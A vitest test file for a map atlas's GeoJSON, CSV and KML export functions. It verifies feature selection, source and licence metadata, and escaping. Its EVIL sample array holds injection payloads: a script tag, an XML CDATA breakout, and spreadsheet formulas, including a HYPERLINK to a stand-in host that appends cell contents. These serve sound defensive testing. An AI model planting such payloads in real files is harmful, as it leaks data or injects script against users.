import { afterEach, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { DOMParser } from '@xmldom/xmldom';
import type { FieldSpec } from '../../../../src/domain/model/fields';
import { exportEntries, type ExportDataset, type ExportMeta } from '../../../../src/domain/export/entries';
import { featuresGeoJson } from '../../../../src/domain/export/geojson';
import { featuresCsv } from '../../../../src/domain/export/csv';
import { featuresKml, xmlAttr, xmlText } from '../../../../src/domain/export/kml';
import { scaleBar } from '../../../../src/domain/export/scale-bar';
import { setLocale } from '../../../../src/i18n';

const FIELDS: FieldSpec[] = [
  { key: 'name', type: 'text', label: 'Name' },
  { key: 'status', type: 'category', label: 'Status' },
  { key: 'minerals', type: 'multi', label: 'Minerals' },
  { key: 'precision', type: 'category', label: 'Precision' },
];

/** Values a hostile file could carry, each in a name and a field. */
const EVIL = [
  '<script>alert(1)</script>',
  ']]><evil/>',
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tTAB',
  '\rCR',
  'कोरबा ब्लॉक "उद्धरण", अल्पविराम',
  'a & b \u0001 control \uD800 lone',
];

function dataset(id: string, names: readonly string[], extra: Partial<ExportDataset> = {}): ExportDataset {
  return {
    id,
    fields: FIELDS,
    rows: names.map((name, i) => ({
      id: `${id}-${i}`,
      index: i,
      lon: 80 + i / 10,
      lat: 20 + i / 10,
      values: { name, status: i % 2 ? 'awarded' : name, minerals: ['graphite', name], precision: 'district' },
    })),
    features: names.map(() => ({
      properties: {
        sources: [{ title: 'PIB <release>', url: 'https://pib.gov.in/?a=1&b=2', date: '2025-01-02' }],
      },
    })),
    ...extra,
  };
}

const A = dataset('blocks', EVIL);
const B = dataset('user-1', ['one', 'two']);
const META: ExportMeta = {
  filters: { 'blocks/status': { op: 'in', values: ['awarded'] } },
  query: null,
  asOf: '2026-01-21',
  link: 'https://example.org/?f=blocks%2Fstatus%3Aawarded&x=<y>#map=5/20/80',
};
const all = (ds: readonly ExportDataset[]) =>
  exportEntries(ds, {
    datasetId: null,
    hiddenLayers: [],
    filtered: (d) => d.rows.map((_, i) => i),
    hits: null,
  });
const fmt = (_f: FieldSpec, v: unknown) => (Array.isArray(v) ? v.join('; ') : v == null ? '' : String(v));

describe('which features are exported', () => {
  const filtered = (d: { id: string }) => (d.id === 'blocks' ? [1, 3] : [0]);
  it('all shown datasets: each one’s filtered rows; a hidden one is left out', () => {
    const e = exportEntries([A, B], { datasetId: null, hiddenLayers: ['user-1'], filtered, hits: null });
    expect(e).toEqual([
      { datasetId: 'blocks', index: 1 },
      { datasetId: 'blocks', index: 3 },
    ]);
  });
  it('one dataset, even a hidden one, when chosen', () => {
    const e = exportEntries([A, B], { datasetId: 'user-1', hiddenLayers: ['user-1'], filtered, hits: null });
    expect(e).toEqual([{ datasetId: 'user-1', index: 0 }]);
  });
  it('while a question is active: exactly its hits (of the chosen dataset), not the filtered rows', () => {
    const hits = [
      { datasetId: 'user-1', index: 1, membership: 'inside' as const, minKm: null, maxKm: null },
      { datasetId: 'blocks', index: 5, membership: 'possibly' as const, minKm: null, maxKm: null },
    ];
    expect(exportEntries([A, B], { datasetId: null, hiddenLayers: [], filtered, hits })).toEqual(hits);
    expect(exportEntries([A, B], { datasetId: 'blocks', hiddenLayers: [], filtered, hits })).toEqual([
      hits[1],
    ]);
  });
});

describe('GeoJSON export', () => {
  it('says what was exported, when and under which terms; each feature its sources and precision', () => {
    const fc = featuresGeoJson([A, B], all([A, B]), META);
    expect(fc.features).toHaveLength(EVIL.length + 2);
    expect(fc.properties).toMatchObject({
      filters: META.filters,
      query: null,
      asOf: '2026-01-21',
      link: META.link,
      count: EVIL.length + 2,
    });
    expect(fc.properties.licence).toMatch(/CC BY 4\.0/);
    expect(fc.properties.sources).toMatch(/sources/);
    const f = fc.features[0]!;
    expect(f.geometry.coordinates).toEqual([80, 20]);
    expect(f.properties).toMatchObject({
      id: 'blocks-0',
      name: EVIL[0],
      dataset: 'blocks',
      precision: 'district',
    });
    expect(f.properties!.sources).toEqual([
      { title: 'PIB <release>', url: 'https://pib.gov.in/?a=1&b=2', date: '2025-01-02' },
    ]);
    expect(f.properties).not.toHaveProperty('membership');
    // Text survives JSON unchanged: nothing is escaped away or lost.
    expect(
      JSON.parse(JSON.stringify(fc)).features.map((x: { properties: { name: string } }) => x.properties.name),
    ).toEqual([...EVIL, 'one', 'two']);
  });
  it('with a question: its kind, parameters and area, and each feature’s membership', () => {
    const area = {
      type: 'Polygon' as const,
      coordinates: [
        [
          [79, 19],
          [82, 19],
          [82, 22],
          [79, 19],
        ],
      ],
    };
    const fc = featuresGeoJson(
      [A],
      [{ datasetId: 'blocks', index: 2, membership: 'inside', minKm: 1, maxKm: 3 }],
      {
        ...META,
        query: { spec: { kind: 'radius', center: [80, 20], km: 50 }, area },
      },
    );
    expect(fc.properties.query).toMatchObject({ kind: 'radius', params: { km: 50 }, area });
    expect(fc.features[0]!.properties).toMatchObject({ membership: 'inside', distanceKm: '1.0–3.0' });
  });
});

describe('CSV export', () => {
  const csv = featuresCsv([A, B], all([A, B]), fmt);
  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
  it('starts with a BOM, one header then one row per feature: id, name, dataset, lon, lat, precision, fields', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(parsed[0]).toEqual([
      'id',
      'name',
      'dataset',
      'longitude',
      'latitude',
      'precision',
      'status',
      'minerals',
      'feature_sources',
      'data_licence',
    ]);
    expect(parsed).toHaveLength(EVIL.length + 3);
    expect(parsed[1]!.slice(0, 6)).toEqual(['blocks-0', EVIL[0], 'blocks', '80', '20', 'district']);
    expect(parsed.slice(1).map((r) => r[0])).toEqual([
      ...EVIL.map((_, i) => `blocks-${i}`),
      'user-1-0',
      'user-1-1',
    ]);
  });
  it('escapes every cell a spreadsheet would run as a formula (= + - @ tab CR), in names and fields', () => {
    for (const r of parsed.slice(1))
      for (const cell of r) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    const byName = new Map(parsed.slice(1).map((r) => [r[0], r]));
    expect(byName.get('blocks-2')![1]).toBe(`'${EVIL[2]}`);
    expect(byName.get('blocks-2')![6]).toBe(`'${EVIL[2]}`);
    expect(byName.get('blocks-6')![1]).toBe(`'\tTAB`);
    // Quotes and commas inside Devanagari text round-trip through the quoting.
    expect(byName.get('blocks-8')![1]).toBe(EVIL[8]);
  });
  it('has no answer columns without a question, and in_area/distance with one', () => {
    expect(csv).not.toMatch(/in_area/);
    const q = featuresCsv(
      [A],
      [{ datasetId: 'blocks', index: 0, membership: 'possibly', minKm: 2, maxKm: 4 }],
      fmt,
    );
    expect(q.split('\r\n')[0]).toBe(
      '\uFEFFid,name,dataset,longitude,latitude,precision,in_area,distance_km,status,minerals,feature_sources,data_licence',
    );
  });
  it("names each feature's sources and the terms of its data (the atlas's, or an imported file's own)", () => {
    const byId = new Map(parsed.slice(1).map((r) => [r[0], r]));
    const head = parsed[0]!;
    const sources = head.indexOf('feature_sources');
    const licence = head.indexOf('data_licence');
    expect(byId.get('blocks-0')![sources]).toBe('PIB <release> (2025-01-02): https://pib.gov.in/?a=1&b=2');
    expect(byId.get('blocks-0')![licence]).toMatch(/GeoNames \(CC BY 4\.0/);
    const user = featuresCsv([{ ...B, kind: 'user' }], all([B]), fmt);
    const row = Papa.parse<string[]>(user.slice(1), { skipEmptyLines: true }).data[1]!;
    expect(row.at(-1)).toMatch(/imported by the user/);
  });
});

describe('KML export', () => {
  const kml = featuresKml([A, B], all([A, B]), META, {
    title: 'Khanij Atlas <export>',
    labelOf: (d) => (d.id === 'blocks' ? 'Blocks & "auctions"' : 'My ]]> layer'),
    fieldLabel: (f) => f.label ?? f.key,
    format: fmt,
  });
  const parse = (text: string) => {
    const errors: string[] = [];
    const doc = new DOMParser({
      onError: (level, msg) => void (level !== 'warning' && errors.push(`${level}: ${msg}`)),
    }).parseFromString(text, 'text/xml');
    return { doc, errors };
  };
  it('is well-formed XML with one Placemark per feature and one Folder per dataset', () => {
    const { doc, errors } = parse(kml);
    expect(errors).toEqual([]);
    expect(doc.getElementsByTagName('Placemark')).toHaveLength(EVIL.length + 2);
    expect(doc.getElementsByTagName('Folder')).toHaveLength(2);
    expect(doc.documentElement!.getAttribute('xmlns')).toBe('http://www.opengis.net/kml/2.2');
  });
  it('keeps hostile names as text: no element is injected, the text reads back as given', () => {
    const { doc } = parse(kml);
    expect(doc.getElementsByTagName('script')).toHaveLength(0);
    expect(doc.getElementsByTagName('evil')).toHaveLength(0);
    expect(kml).not.toMatch(/CDATA/);
    const names = Array.from(doc.getElementsByTagName('Placemark')).map(
      (p) => p.getElementsByTagName('name')[0]!.textContent,
    );
    expect(names.slice(0, 9)).toEqual(EVIL.slice(0, 9));
    // Characters XML cannot hold become U+FFFD instead of breaking the file.
    expect(names[9]).toBe('a & b \uFFFD control \uFFFD lone');
    const folder = doc.getElementsByTagName('Folder')[1]!.getElementsByTagName('name')[0]!.textContent;
    expect(folder).toBe('My ]]> layer');
  });
  it('puts fields in ExtendedData, sources in the description, the licence and date in the document', () => {
    const { doc } = parse(kml);
    const pm = doc.getElementsByTagName('Placemark')[1]!;
    const data = new Map(
      Array.from(pm.getElementsByTagName('Data')).map((d) => [
        d.getAttribute('name'),
        d.getElementsByTagName('value')[0]!.textContent,
      ]),
    );
    expect(data.get('id')).toBe('blocks-1');
    expect(data.get('status')).toBe('awarded');
    expect(data.get('precision')).toBe('district');
    expect(pm.getElementsByTagName('description')[0]!.textContent).toContain(
      'PIB <release> (2025-01-02): https://pib.gov.in/?a=1&b=2',
    );
    expect(pm.getElementsByTagName('coordinates')[0]!.textContent).toBe('80.1,20.1');
    const doc0 = doc.getElementsByTagName('Document')[0]!;
    expect(doc0.getElementsByTagName('name')[0]!.textContent).toBe('Khanij Atlas <export>');
    expect(doc0.getElementsByTagName('description')[0]!.textContent).toMatch(/CC BY 4\.0[\s\S]*2026-01-21/);
    expect(pm.getElementsByTagName('description')[0]!.textContent).toMatch(
      /^Precision: district centre \(the site is somewhere in the district\)\nSources:\n- PIB/,
    );
  });
  it('xmlText escapes the five XML specials and CR; xmlAttr also tab and line feed', () => {
    expect(xmlText(`<a href="x">'&'</a>\r`)).toBe(
      '&lt;a href=&quot;x&quot;&gt;&apos;&amp;&apos;&lt;/a&gt;&#13;',
    );
    expect(xmlAttr('a\tb\nc')).toBe('a&#9;b&#10;c');
  });
});

describe("exported files' notes come from the message catalogue", () => {
  afterEach(() => setLocale('en'));
  it('in the pseudo-locale every note of GeoJSON, KML and CSV is marked as a catalogue message', () => {
    setLocale('pseudo');
    const fc = featuresGeoJson([A], all([A]), META);
    expect(fc.properties.licence).toMatch(/^⟦.*⟧$/);
    expect(fc.properties.sources).toMatch(/^⟦.*⟧$/);
    const kml = featuresKml([A], all([A]), META, {
      title: 't',
      labelOf: () => 'l',
      fieldLabel: (f) => f.key,
      format: fmt,
    });
    const doc = new DOMParser().parseFromString(kml, 'text/xml');
    const head = doc.getElementsByTagName('Document')[0]!.getElementsByTagName('description')[0]!
      .textContent!;
    const [licence, asOf] = head.split('\n');
    expect(licence).toMatch(/^⟦.*⟧$/);
    expect(asOf).toBe('⟦Data as of 2026-01-21.⟧');
    const pm = doc.getElementsByTagName('Placemark')[0]!.getElementsByTagName('description')[0]!.textContent!;
    const lines = pm.split('\n');
    expect(lines[0]).toMatch(/^⟦Precision: ⟦district centre.*⟧⟧$/);
    expect(lines[1]).toBe('⟦Sources:⟧');
    const csv = Papa.parse<string[]>(featuresCsv([A], all([A]), fmt).slice(1)).data;
    expect(csv[1]!.at(-1)).toMatch(/^⟦.*⟧$/);
  });
});

describe('scale bar', () => {
  it('is the longest 1/2/5 × 10ⁿ that fits', () => {
    expect(scaleBar(1000, 120)).toEqual({ px: 100, metres: 100_000, label: '100 km' });
    expect(scaleBar(3, 100)).toMatchObject({ metres: 200, label: '200 m' });
    expect(scaleBar(26, 100)).toMatchObject({ metres: 2000, label: '2 km' });
    expect(scaleBar(0, 100)).toBeNull();
    expect(scaleBar(Number.NaN, 100)).toBeNull();
  });
});
